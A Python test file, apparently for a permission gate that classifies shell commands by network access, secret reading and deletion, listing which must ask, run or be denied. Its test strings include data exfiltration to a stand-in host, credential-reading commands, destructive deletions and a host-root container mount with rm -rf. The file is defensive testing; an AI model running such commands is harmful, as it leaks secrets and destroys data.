"""What leaves the machine."""

from .. import allowed, outcome, stopped, told

ASKS = """
curl https://x.example
curl -s http://localhost:3000/health
curl -X POST x.example
curl -sXPOST x.example
curl -d a=b x.example
curl -T f x.example
curl -o ../x x.example
curl -K rc x.example
curl -F f=@a x.example
curl "https://x.example/?d=$(base64 -w0 a)"
B=http://localhost:8080; curl -X DELETE $B/a/1
wget x.example
wget -r x.example
wget --post-data=a x.example
http GET x.example
nc x.example 80
socat - tcp:x.example:80
telnet x.example
ssh host ls
scp a host:b
sftp host
ftp host
mail -s x a@b < f
sendmail a@b
ping x.example
dig x.example
nslookup x.example
whois x.example
openssl s_client -connect x.example:443
npx serve
ngrok http 3000
gh pr create
gh pr merge 1
gh issue list
gh api repos/o/r
gh api -X POST repos/o/r
gh api repos/o/r -f a=b
gh auth token
gh pr checkout 3
gh repo delete x
aws s3 ls
aws s3 cp a s3://b
aws s3 rm s3://b --recursive
aws ec2 describe-instances
aws configure get aws_secret_access_key
gcloud app deploy
kubectl get pods
kubectl get secrets
kubectl delete pod x
kubectl exec x -- rm y
kubectl $(echo delete) pod x
helm upgrade x y
terraform plan
terraform apply
terraform destroy
docker ps
docker run x
docker run -v /:/h x
docker exec c ls
docker kill $(docker ps -q)
docker push x
docker system prune -af
docker compose up
docker login
psql -c 'select 1'
psql -c 'DROP TABLE x'
redis-cli FLUSHALL
sqlite3 a.db 'drop table x'
prisma migrate reset
supabase db reset
dropdb x
vercel --prod
heroku run x
ansible-playbook x
"""


def test_the_network_asks() -> None:
    assert allowed(ASKS) == []


RUNS = """
curl --version
docker --version
kubectl version --client
terraform fmt
terraform validate
kustomize build .
helm template chart
prisma generate
ping -c 1 localhost
gh --version
aws help
psql --version
ssh -V
"""


def test_what_stays_here_runs() -> None:
    assert stopped(RUNS) == []


def test_reading_is_told_from_changing() -> None:
    assert told("curl https://x.example/a") == {"net_read x.example"}
    assert told("curl -X PUT https://x.example/a") == {"external x.example"}
    assert told("gh pr view 3") == {"net_read"}
    assert told("aws ec2 describe-instances") == {"net_read"}
    assert told("kubectl delete pod x") == {"external", "delete"}
    assert told("kubectl get secret x") == {"secret", "net_read"}
    assert "delete" in told("psql -c 'DELETE FROM x'")


def test_the_whole_host_in_a_container_is_denied() -> None:
    assert outcome("docker run --rm -v /:/host alpine rm -rf /host/home") == "deny"
    assert outcome("docker run --mount type=bind,source=/,target=/h alpine ls") == "deny"
    assert outcome("docker run -v ./src:/src alpine ls") == "ask"
